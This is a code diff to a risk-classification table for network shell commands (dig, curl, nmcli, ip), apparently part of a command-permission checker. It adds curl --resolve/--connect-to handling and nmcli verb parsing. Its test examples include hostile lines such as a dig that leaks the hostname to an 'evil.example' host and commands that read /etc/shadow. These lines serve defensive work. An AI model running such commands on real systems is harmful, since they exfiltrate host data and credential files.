@@ -135,7 +135,7 @@ export const network: Table = {
       'dig example.com': 'read_only',
       'dig +short mx example.com': 'read_only',
       'dig @8.8.8.8 example.com': 'read_only egress',
-      'dig $(hostname).evil.example': 'destructive egress',
+      'dig $(hostname).evil.example': 'read_only egress',
       'dig "x-$h.evil.example"': 'read_only egress',
       'dig @127.0.0.1 x': 'read_only',
       'dig -f /etc/shadow': 'read_only sensitive_read egress',
@@ -167,7 +167,7 @@ export const network: Table = {
     level: 'read_only',
     yields: 'download',
     options:
-      '-s --silent -S --show-error -f --fail --fail-with-body -I --head -i --include -v --verbose -k --insecure -L --location -m: --max-time= --connect-timeout= -w: --write-out= -4 --ipv4 -6 --ipv6 --http1.1 --http2 --compressed -g --globoff -N --no-buffer --retry= --retry-delay= --retry-max-time= -# --progress-bar --no-progress-meter -r: --range= -A: --user-agent= -e: --referer= --resolve= --interface= --tlsv1.2 --tlsv1.3 -0 --http1.0 --max-redirs= --speed-limit= --speed-time= --path-as-is --raw -G --get -l -B -n --trace-time --http3 --tcp-nodelay -Z --no-keepalive --limit-rate= --ssl-reqd --connect-to= -q --disable --no-sessionid --retry-connrefused --retry-all-errors --haproxy-protocol --location-trusted -M --request-target= --ciphers=',
+      '-s --silent -S --show-error -f --fail --fail-with-body -I --head -i --include -v --verbose -k --insecure -L --location -m: --max-time= --connect-timeout= -w: --write-out= -4 --ipv4 -6 --ipv6 --http1.1 --http2 --compressed -g --globoff -N --no-buffer --retry= --retry-delay= --retry-max-time= -# --progress-bar --no-progress-meter -r: --range= -A: --user-agent= -e: --referer= --interface= --tlsv1.2 --tlsv1.3 -0 --http1.0 --max-redirs= --speed-limit= --speed-time= --path-as-is --raw -G --get -l -B -n --trace-time --http3 --tcp-nodelay -Z --no-keepalive --limit-rate= --ssl-reqd -q --disable --no-sessionid --retry-connrefused --retry-all-errors --haproxy-protocol --location-trusted -M --request-target= --ciphers=',
     effects: {
       '-o: --output=': { value: 'overwrites' },
       '-D: --dump-header= -c: --cookie-jar= --trace= --trace-ascii= --stderr= --etag-save= --libcurl= --hsts= --alt-svc=':
@@ -187,6 +187,11 @@ export const network: Table = {
         { does: 'sends credentials or headers', value: 'reads' },
       '-K: --config= --variable= --expand-url= --next --proto= --egd-file= --engine= --krb= --ftp-port= -P: --delegation=':
         { does: 'does what is not written here', level: 'destructive' },
+      '--resolve= --connect-to=': {
+        does: 'talks to another address than the name says',
+        flag: 'egress',
+        unless: /^[\w.*-]*:\d*:(?:127\.\d+\.\d+\.\d+|\[::1\]|localhost:\d+)$/,
+      },
       '-x: --proxy= --preproxy= --socks4= --socks5= --socks5-hostname= --socks4a= --dns-servers= --doh-url= --url=': {
         value: 'url',
       },
@@ -214,6 +219,8 @@ export const network: Table = {
       'curl -H @/etc/shadow http://localhost': 'read_only sensitive_read',
       'curl -D h http://localhost/': 'destructive',
       'curl -K x': 'destructive',
+      'curl --connect-to ::a.example:80 localhost': 'read_only egress',
+      'curl --resolve a.example:80:127.0.0.1 localhost': 'read_only',
       'curl -x http://p http://localhost': 'read_only egress',
       'curl -E c http://localhost': 'read_only',
       'curl --unix-socket /var/run/docker.sock http://localhost/x': 'destructive',
@@ -469,21 +476,15 @@ export const network: Table = {
     effects: { '-s --show-secrets': { does: 'shows secrets', flag: 'sensitive_read' } },
     operands: 'text',
     ordered: true,
-    check: (call) => {
-      const verbs = call.words.map((word) => word.text).filter((word) => !word.startsWith('-'));
-      if (
-        verbs.some((verb) =>
-          /^(?:up?|down?|add?|mod\w*|del\w*|edit|clone|reload|load|import|export|on|off|connect|disconnect|set|reapply|hotspot|rescan|monitor|migrate)$/.test(
-            verb,
-          ),
-        ) ||
-        call.words.some((word) => !word.literal)
-      )
-        call.raise('verb', 'changes the network', 'destructive');
-    },
+    check: judgeNmcli,
     examples: {
       'nmcli device status': 'read_only',
       'nmcli con down x': 'destructive',
+      'nmcli c a type ethernet': 'destructive',
+      'nmcli d dis eth0': 'destructive',
+      'nmcli g hostname x': 'destructive',
+      'nmcli -f NAME,UUID con show': 'read_only',
+      'nmcli device wifi list': 'read_only',
       'nmcli -s con show x': 'read_only sensitive_read',
       'nmcli networking off': 'destructive',
     },
@@ -518,12 +519,26 @@ function judgeIp(call: Call): void {
     call.raise('object', `is not known: ${object.text}`, 'destructive');
     return;
   }
+  // The short form means `set` here, `show` elsewhere.
+  if (/^(?:l|macsec)/.test(object.text) && verb?.text === 's' && rest.filter((word) => word.text !== 'dev').length > 1)
+    call.raise('verb', 'changes the network: ip link set', 'destructive');
   if (
     verb !== undefined &&
     !ipVerbs.test(verb.text) &&
     !/^(?:dev|to|table|eth\w*|en\w+|lo|vrf|type|up|master|scope|match|exact|proto|via|root|default)$/.test(verb.text)
   )
     call.raise('verb', `changes the network: ip ${object.text} ${verb.text}`, 'destructive');
+}
+
+/** `nmcli OBJECT [VERB …]`, where all may be abbreviated: only what surely shows is a read. */
+function judgeNmcli(call: Call): void {
+  const at = call.operands[0] === undefined ? call.words.length : call.words.indexOf(call.operands[0]);
+  const [, verb, ...rest] = call.words.slice(at).map((word) => (word.literal ? word.text : '…'));
+  const shows =
+    verb === undefined ||
+    /^(?:sho?w?|stat?u?s?|permissions|connectivity|list)$/.test(verb) ||
+    (/^(?:hostname|logging|all|wifi|wwan)$/.test(verb) && rest.every((word) => word === 'list'));
+  if (!shows) call.raise('verb', 'changes the network', 'destructive');
 }
 
 /** `@server`, unless it is this machine; an open server is egress. */
